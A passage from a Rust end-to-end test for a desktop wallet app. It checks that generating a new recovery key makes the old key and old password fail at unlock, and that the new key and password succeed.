    app.click_button("Make a new recovery key").await;
    let new_recovery = app.text("[data-testid=recovery-new-key]").await;
    assert!(
        new_recovery.len() > 40 && new_recovery != old_recovery,
        "{new_recovery:?}"
    );
    assert!(
        dialogs.asked().contains("Make a new recovery key?"),
        "asked natively first: {}",
        dialogs.asked()
    );
    app.type_into("#recovery-typed", &new_recovery.to_lowercase())
        .await;
    app.click_button("Switch to the new key").await;
    app.wait_text(
        "[data-testid=recovery-done]",
        "New recovery key active: the old one no longer opens this wallet.",
    )
    .await;

    let app = app.restart().await;
    app.wait_text("h1", "Unlock your wallet").await;
    for (method, secret) in [(2, old_recovery.as_str()), (1, FIRST)] {
        app.click(&format!(".tabs label:nth-child({method}) > input"))
            .await;
        app.type_into("#unlock-secret", secret).await;
        app.click_button("Unlock").await;
        // The attempt is over when the field is cleared; it was refused if the gate stays.
        let started = Instant::now();
        while !unlock_field_value(&app).await.is_empty() {
            assert!(
                started.elapsed() < Duration::from_secs(10),
                "{secret:?}: no answer"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        app.text("[role=alert][data-code=key_mismatch]").await;
        app.wait_text("h1", "Unlock your wallet").await;
    }
    app.click(".tabs label:nth-child(2) > input").await;
    app.type_into("#unlock-secret", &new_recovery).await;
    app.click_button("Unlock").await;
    app.wait_text("h1", "Keep the key in the system keyring?")
        .await;
    app.click_button("Not now").await;
    app.wait_text("h1", "Cards").await;

    let app = app.restart().await;
    app.wait_text("h1", "Unlock your wallet").await;
    app.click(".tabs label:nth-child(1) > input").await;
    app.type_into("#unlock-secret", SECOND).await;
    app.click_button("Unlock").await;
    app.wait_text("h1", "Cards").await;
    app.stop().await;
}

/// What the unlock screen's secret field holds now.
async fn unlock_field_value(app: &RunningApp) -> String {
    let field = app
        .client
        .find(fantoccini::Locator::Css("#unlock-secret"))
        .await
        .unwrap();
    field.prop("value").await.unwrap().unwrap_or_default()
}
